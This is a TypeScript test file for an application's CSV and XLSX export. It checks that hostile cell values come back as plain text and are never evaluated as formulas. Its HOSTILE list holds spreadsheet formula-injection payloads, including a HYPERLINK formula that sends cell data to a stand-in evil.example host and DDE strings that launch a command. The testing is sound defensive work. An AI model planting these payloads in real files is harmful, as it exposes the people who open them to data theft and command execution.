/** Lists as files: what is read back is what was written, and no cell of it is ever a formula. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { plainText, readableText } from "#app/domain/table/neutral.ts";
import type { Cell, Table } from "#app/domain/table/table.ts";
import { tableFile } from "#app/server/table-file.ts";
import {
  hasLibreOffice,
  openInLibreOffice,
  partsOfXlsx,
  readCsv,
  readXlsx,
} from "#test/support/read-tables.ts";

const HOSTILE: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  "safe;=1+1",
  'safe";=1+1;"',
  "a line\n=1+1",
  "{=1+1}",
  '"=1+1"',
  "a, b",
  'she said "yes"',
  "_x003D_1+1",
  "<f>1+1</f>",
  "]]><c><f>1</f></c>",
  "Đà Nẵng 😀 Ωμέγα",
  "  kept blanks  ",
  "\u0001\u0000\ud800",
  "007",
  "1e5",
];

function table(rows: readonly (readonly Cell[])[]): Table {
  return { name: "hostile =1", columns: ["first", "=second"], rows };
}

const cells = table(HOSTILE.map((text, index) => [text, HOSTILE.at(-1 - index) ?? ""]));

async function bytesOf(written: Table, format: "csv" | "xlsx"): Promise<Uint8Array> {
  const answer = await tableFile(written, format, "prize/2026");
  return new Uint8Array(await answer.arrayBuffer());
}

const asText = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);

describe("a CSV", () => {
  test("has a byte order mark, ends its lines as the RFC says, and is a file to keep", async () => {
    const answer = await tableFile(
      table([
        ["a", null],
        [1.5, new Date(0)],
      ]),
      "csv",
      "prize/2026",
    );
    expect(answer.headers.get("content-disposition")).toContain(
      'filename="prize-2026-hostile-1.csv"',
    );
    expect(answer.headers.get("content-type")).toContain("text/csv");
    expect(asText(new Uint8Array(await answer.arrayBuffer()))).toBe(
      '\ufefffirst,"\'=second"\r\na,\r\n1.5,1970-01-01T00:00:00.000Z\r\n',
    );
  });

  test("gives every hostile cell back, and shows none as a formula", async () => {
    const [head, ...rows] = readCsv(asText(await bytesOf(cells, "csv")));
    expect(head).toEqual(["first", "'=second"]);
    expect(rows.map(([first]) => plainText(first ?? ""))).toEqual(HOSTILE.map(readableText));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
  });

  test("of anything reads as what was written", async () => {
    const text = fc.string({ unit: fc.oneof(fc.constantFrom(..."=+-@'\",;\n\r\t "), fc.string()) });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1 }), async (rows) => {
        const [, ...read] = readCsv(asText(await bytesOf(table(rows), "csv")));
        expect(read.map((row) => row.map(plainText))).toEqual(
          rows.map((row) => row.map(readableText)),
        );
      }),
    );
  });

  test("of a long list is written while the list is read, and not further than it is wanted", async () => {
    let read = 0;
    let isEnded = false;
    async function* rows() {
      try {
        for (; ; read++) yield [`line ${read}`, null];
      } finally {
        isEnded = true;
      }
    }
    const answer = await tableFile({ ...cells, rows: rows() }, "csv", "prize");
    const reader = answer.body?.getReader();
    await reader?.read();
    await reader?.read();
    await reader?.cancel();
    expect(read).toBeLessThan(2_000);
    expect(isEnded).toBe(true);
  });
});

describe("an XLSX", () => {
  test("types every cell as a text, a number or a date", async () => {
    const date = new Date("2026-06-12T12:00:00.000Z");
    const written = table([...HOSTILE.map((text) => [text, null]), [date, -3.5]]);
    const content = await bytesOf(written, "xlsx");
    const [head, ...rows] = await readXlsx(content);
    expect(head).toEqual(["first", "=second"]);
    const last = rows.at(-1);
    expect(last?.[1]).toBe(-3.5);
    expect(Math.abs(Number(last?.[0]) - date.getTime())).toBeLessThan(1_000);
    expect(rows.slice(0, -1).map(([first]) => first)).toEqual(HOSTILE.map(readableText));
    for (const [name, part] of Object.entries(partsOfXlsx(content)))
      if (name.startsWith("xl/worksheets/")) expect(part).not.toMatch(/<f[\s>/]/);
  });

  test("cuts a cell that no program would open, and says so", async () => {
    const [, row] = await readXlsx(await bytesOf(table([["x".repeat(40_000), null]]), "xlsx"));
    expect(`${row?.[0] as string}`).toHaveLength(32_767);
    expect(row?.[0]).toMatch(/The rest is in the CSV\.$/);
  });

  test("of more lines than the server can write at once is refused for the CSV", async () => {
    const rows = Array.from({ length: 10_001 }, () => ["a", "b"]);
    await expect(tableFile(table(rows), "xlsx", "prize")).rejects.toMatchObject({
      init: { status: 413 },
    });
  });
});

describe.runIf(hasLibreOffice)("LibreOffice", () => {
  test.for([
    ["an XLSX", "xlsx", undefined],
    ["a CSV", "csv", "44,34,76,1"],
    ["a CSV that it takes for one with semicolons", "csv", "59,34,76,1"],
    ["a CSV that it takes for one with tabs", "csv", "9,34,76,1"],
  ] as const)("finds no formula in %s", async ([, format, filter]) => {
    const content = await bytesOf(cells, format);
    const document = await openInLibreOffice(`hostile.${format}`, content, filter);
    expect(document).toContain("HYPERLINK");
    expect(document).not.toContain("table:formula");
  });

  test("would have found one", async () => {
    const document = await openInLibreOffice("bad.csv", Buffer.from("a,=1+1\r\n"), "44,34,76,1");
    expect(document).toContain("table:formula");
  });
});
